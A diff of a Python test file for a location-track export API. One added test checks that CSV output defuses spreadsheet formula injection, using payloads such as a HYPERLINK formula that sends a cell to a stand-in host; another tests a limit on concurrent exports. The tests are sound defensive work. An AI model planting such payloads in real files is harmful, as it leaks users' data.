@@ -337,7 +337,8 @@ def test_a_stream_holds_no_pooled_connection_and_lets_go_when_the_client_leaves(
                       ).fetchone() == (2,)
 
 
-ODD = ['<gps & "net">', "a]]>b</provider>", "fused\x01\x1b?", "北斗 'BDS'", "&amp; ;"]
+ODD = ['<gps & "net">', "a]]>b</provider>", "fused\x01\x1b?", "北斗 'BDS'", "&amp; ;",
+       '=HYPERLINK("http://x.example/?"&A1)', "@SUM(1)", "-2+3"]
 
 
 def test_kml_export_parses_with_times_in_order_and_escapes_odd_provider_strings(
@@ -381,7 +382,12 @@ def test_kml_export_parses_with_times_in_order_and_escapes_odd_provider_strings(
     pts = ET.fromstring(r.content).findall(f"{GPX}trk/{GPX}trkseg/{GPX}trkpt")
     assert [p.findtext(f"{GPX}extensions/{CCS}provider") for p in pts] == want
     r = client.get(url, params={**q, "format": "csv"}, headers=h)
-    assert [x["provider"] for x in csv.DictReader(io.StringIO(r.text))] == ODD  # CSV keeps them
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    # CSV keeps them, but text a spreadsheet would run as a formula is quoted with an apostrophe
+    # (a phone chooses its provider string); numbers stay numbers.
+    assert [x["provider"] for x in rows] == [
+        "'" + p if p[0] in "=@-" else p for p in ODD]
+    assert [float(x["lon"]) for x in rows] == [114.3] * len(ODD)
     r = client.get(url, params={**q, "format": "geojson"}, headers=h)
     assert [f["properties"]["provider"] for f in r.json()["features"][1:]] == ODD
 
@@ -435,3 +441,38 @@ def test_a_period_with_no_fix_or_one_fix_exports_valid_files(
         assert len(list(csv.DictReader(io.StringIO(text)))) == n and text.startswith("fix_time,")
     assert db.execute("""SELECT array_agg((detail->>'fixes')::int ORDER BY id) FROM audit_log
                           WHERE action = 'location.export_track'""").fetchone() == ([0] * 4 + [1] * 4,)
+
+
+def test_exports_at_once_are_limited_and_a_finished_one_frees_its_place(
+        client: TestClient, org: Org, db: psycopg.Connection, settings: Settings):
+    """Each export holds a database connection of its own for the whole download: one process
+    streams at most `exports_max_concurrent`; one more is refused (429 `exports_busy`, with a
+    Retry-After) and is neither audited nor left holding a connection."""
+    insert_fixes(db, org.supervisee_id, 3, T0)
+    set_settings(settings.model_copy(update={"exports_max_concurrent": 2}))
+    h = login(client, "jiangan-officer")
+    url = f"{API}/supervisees/{org.supervisee_id}/track"
+    q = {"from": T0.isoformat(), "to": (T0 + timedelta(hours=1)).isoformat(),
+         "purpose": "并发导出 concurrency", "format": "csv"}
+    held = [open_track(org.supervisee_id, T0, T0 + timedelta(hours=1)) for _ in range(2)]
+    try:
+        r = client.get(url, params=q, headers=h)
+        assert r.status_code == 429, r.text
+        assert r.json()["error"] == "exports_busy" and r.json()["limit"] == 2
+        assert r.headers["retry-after"] == "30"
+        held.pop().close()
+        r = client.get(url, params=q, headers=h)
+        assert r.status_code == 200, r.text
+        assert len(list(csv.DictReader(io.StringIO(r.text)))) == 3
+        # The finished download gave its place back: another one goes through.
+        assert client.get(url, params=q, headers=h).status_code == 200
+    finally:
+        for t in held:
+            t.close()
+        set_settings(settings)
+    exports = db.execute("SELECT count(*) FROM audit_log WHERE action = 'location.export_track'"
+                         ).fetchone()
+    assert exports is not None and exports[0] == 2  # the refused one left no export record
+    left = db.execute("SELECT count(*) FROM pg_stat_activity WHERE application_name = %s",
+                      (EXPORT_APPLICATION,)).fetchone()
+    assert left is not None and left[0] == 0
